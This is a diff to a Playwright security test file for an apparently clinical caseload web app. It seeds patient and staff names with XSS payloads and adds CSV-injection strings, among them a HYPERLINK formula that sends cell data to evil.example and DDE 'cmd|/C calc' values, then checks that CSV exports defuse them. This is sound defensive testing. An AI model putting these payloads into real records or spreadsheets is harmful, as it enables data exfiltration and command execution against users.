@@ -1,7 +1,7 @@
-import { mkdtempSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { Page } from '@playwright/test';
+import { Locator, Page } from '@playwright/test';
 import { WaypointServer, buildServer } from '../server/app';
 import { DEMO_USERS } from '../server/auth/demo-users';
 import { Resource } from '../server/db/resource-store';
@@ -36,6 +36,10 @@ const HOSTILE_PROGRAM = `<b onmouseover=alert(3)>Adult</b> IOP javascript:alert(
 const HOSTILE_FLAG = `javascript:alert(5) <a href="javascript:alert(6)">call</a> ${RLO}kcab`;
 const HOSTILE_PLAN = `javascript:alert(7)//<svg onload=alert(8)>`;
 const HOSTILE_STAFF_FAMILY = `<iframe src="javascript:alert(9)"></iframe>`;
+/** Names a spreadsheet would run as formulas (CSV injection) if an export passed them through. */
+const FORMULA_GIVEN = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+const FORMULA_FAMILY = "@SUM(1+1)*cmd|' /C calc'!A0";
+const FORMULA_STAFF_GIVEN = "-2+3+cmd|' /C calc'!A0";
 
 interface Hostile {
   readonly server: WaypointServer;
@@ -43,6 +47,7 @@ interface Hostile {
   readonly therapist: string;
   readonly patientId: string;
   readonly longId: string;
+  readonly formulaId: string;
   stop(): Promise<void>;
 }
 
@@ -76,10 +81,13 @@ async function startHostileServer(): Promise<Hostile> {
       ...(byTherapist.get(refOf(e['careManager'])) ?? []),
       e,
     ]);
-  const [managerRef, episodes] = [...byTherapist].find(([, list]) => list.length >= 2)!;
+  const found = [...byTherapist].find(([, list]) => list.length >= 3);
+  if (!found) throw new Error('the hostile seed needs a demo therapist with three clients in care');
+  const [managerRef, episodes] = found;
   const therapist = DEMO_USERS.find((u) => `Practitioner/${u.practitionerId}` === managerRef)!;
   const patientId = refOf(episodes[0]['patient']).replace('Patient/', '');
   const longId = refOf(episodes[1]['patient']).replace('Patient/', '');
+  const formulaId = refOf(episodes[2]['patient']).replace('Patient/', '');
   const programId = refOf(episodes[0]['managingOrganization']).replace('Organization/', '');
   const colleague = DEMO_USERS.find(
     (u) => u.role === 'therapist' && u.practitionerId !== therapist.practitionerId,
@@ -90,9 +98,11 @@ async function startHostileServer(): Promise<Hostile> {
       r['name'] = [{ use: 'official', family: HOSTILE_FAMILY, given: [HOSTILE_GIVEN] }];
     if (r.resourceType === 'Patient' && r.id === longId)
       r['name'] = [{ use: 'official', family: LONG_FAMILY, given: ['Very'] }];
+    if (r.resourceType === 'Patient' && r.id === formulaId)
+      r['name'] = [{ use: 'official', family: FORMULA_FAMILY, given: [FORMULA_GIVEN] }];
     if (r.resourceType === 'Organization' && r.id === programId) r['name'] = HOSTILE_PROGRAM;
     if (r.resourceType === 'Practitioner' && r.id === colleague.practitionerId)
-      r['name'] = [{ family: HOSTILE_STAFF_FAMILY, given: ['<u>Staff</u>'] }];
+      r['name'] = [{ family: HOSTILE_STAFF_FAMILY, given: [FORMULA_STAFF_GIVEN] }];
     if (r.resourceType === 'CarePlan' && refOf(r['subject']) === `Patient/${patientId}`) {
       r['title'] = HOSTILE_PLAN;
       r['description'] = HOSTILE_PLAN;
@@ -132,6 +142,7 @@ async function startHostileServer(): Promise<Hostile> {
     therapist: therapist.name,
     patientId,
     longId,
+    formulaId,
     async stop() {
       await server.app.close();
       rmSync(dir, { recursive: true, force: true });
@@ -152,6 +163,46 @@ async function damage(page: Page) {
     pageOverflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
   }));
 }
+
+/** RFC 4180 fields, enough to read an export back: quoted fields may hold commas and quotes. */
+function csvRows(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      field += '"';
+      i++;
+    } else if (c === '"') {
+      quoted = !quoted;
+    } else if (!quoted && c === ',') {
+      row.push(field);
+      field = '';
+    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
+      rows.push([...row, field]);
+      row = [];
+      field = '';
+      i++;
+    } else {
+      field += c;
+    }
+  }
+  return rows;
+}
+
+/** Saves an export through its button and returns its cells. */
+async function exportCells(page: Page, button: Locator): Promise<string[]> {
+  const download = page.waitForEvent('download');
+  await button.click();
+  const text = readFileSync((await (await download).path())!, 'utf8');
+  return csvRows(text).flat();
+}
+
+/** A cell a spreadsheet would evaluate: starts with = + - @ (or tab / CR) and is not a number. */
+const runsAsFormula = (cell: string) =>
+  /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?%?$/.test(cell);
 
 const NO_DAMAGE = { injectedImages: 0, injectedElements: 0, scripts: 0, javascriptLinks: [] };
 
@@ -194,6 +245,13 @@ test.describe('hostile content renders as plain text', () => {
     });
     await expect(table.getByRole('link', { name: /^Very LongW+$/ })).toHaveCount(1);
     await expectNoDamage(page, 'caseload');
+
+    // The export keeps the formula-like name as text: every such cell is defused with a quote.
+    const caseloadCells = await exportCells(page, page.getByRole('button', { name: 'Export CSV' }));
+    expect(caseloadCells.filter(runsAsFormula), 'caseload CSV cells that run as formulas').toEqual(
+      [],
+    );
+    expect(caseloadCells.some((cell) => cell.includes(FORMULA_GIVEN))).toBe(true);
 
     await page.goto(`${hostile.origin}/clients/${hostile.patientId}`);
     const heading = page.getByRole('heading', { level: 1 });
@@ -241,6 +299,17 @@ test.describe('hostile content renders as plain text', () => {
     await page.goto(`${hostile.origin}/outcomes?period=last-365&by=therapist`);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible({ timeout: LOAD_TIMEOUT });
     await expectNoDamage(page, 'outcomes by therapist');
+    const breakdownCells = await exportCells(
+      page,
+      page
+        .getByRole('region', { name: 'Who is it working for?' })
+        .getByRole('button', { name: 'Export CSV' }),
+    );
+    expect(
+      breakdownCells.filter(runsAsFormula),
+      'breakdown CSV cells that run as formulas',
+    ).toEqual([]);
+    expect(breakdownCells.some((cell) => cell.includes(FORMULA_STAFF_GIVEN))).toBe(true);
 
     await page.goto(`${hostile.origin}/step-down?admittedFrom=2000-01-01`);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible({ timeout: LOAD_TIMEOUT });
